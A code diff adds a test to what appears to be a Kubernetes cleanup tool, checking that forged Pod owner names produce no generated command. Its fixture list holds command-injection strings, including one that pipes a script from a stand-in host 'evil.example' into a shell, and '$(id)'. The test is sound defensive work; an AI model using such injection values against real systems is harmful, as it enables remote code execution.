@@ -543,3 +543,17 @@ test("P12 cleanup --legacy: objects of another API group are not mistaken for Ku
     )
   }
 })
+
+// Whoever may create a Pod writes any text into its ownerReferences; a version that is not served keeps it from the garbage collector.
+test('cleanup --legacy: a controller that was not read, and a name that is no name, lead to no command', () => {
+  const names = ['web', 'web; curl -s evil.example/x | sh #', '$(id)', '--all']
+  for (const name of names) {
+    const forged = owned(pod('default', 'p', IMAGE, A), 'Deployment', name, 'apps/v9')
+    const [found] = findDependents(collectFacts([...switched, forged]), ours(), { entries: [], patterns: [] })
+    assert.deepEqual([found?.subject, found?.command], [`deployment/${name} in default`, undefined])
+  }
+  const read = deployment('default', '$(id)', IMAGE)
+  const objects = [...switched, read, owned(pod('default', 'p', IMAGE, A), 'Deployment', '$(id)')]
+  const [found] = findDependents(collectFacts(objects), ours(), { entries: [], patterns: [] })
+  assert.deepEqual([found?.subject, found?.command], ['deployment/$(id) in default', undefined])
+})
